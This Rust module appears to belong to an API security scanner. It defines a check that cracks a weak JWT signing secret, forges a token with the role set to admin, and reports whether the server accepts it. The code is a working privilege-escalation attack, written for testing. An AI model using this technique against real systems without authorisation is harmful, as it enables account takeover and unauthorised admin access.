//! A signing secret that can be guessed offline.

use super::Probing;
use crate::client::{ClientError, Probe};
use crate::identity::Identity;
use crate::report::Outcome;
use crate::token;

attack!("token-weak-secret", Authentication, Code, "Can I guess the signing secret and make tokens of my own?", run);

async fn run(p: Probing<'_>) -> Result<Outcome, ClientError> {
    let (Some(endpoint), Some(victim)) = (p.surface.secured_read(), p.attacker().or(p.victim())) else {
        return Ok(Outcome::not_applicable("needs a JWT and a read that asks for it"));
    };
    let (Some(text), Some(mut claims)) = (victim.token(), victim.claims()) else {
        return Ok(Outcome::not_applicable("the credential is not a JWT"));
    };
    let Some(secret) = token::crack(text) else { return Ok(Outcome::blocked("the secret is not a common one", vec![])) };
    claims["role"] = "admin".into();
    let Some(forged) = token::forge(&claims, secret) else { return Ok(Outcome::not_applicable("cannot sign")) };
    let (answer, exchange) = p.send(&Probe::get(endpoint.path.clone()).by(&Identity::bearer("forged", &forged))).await?;
    Ok(if answer.status.is_success() {
        Outcome::exploited(format!("the secret is `{secret}`: a forged admin token is believed"), vec![exchange])
    } else {
        Outcome::blocked("the secret was guessed, but forged tokens are not believed", vec![exchange])
    })
}
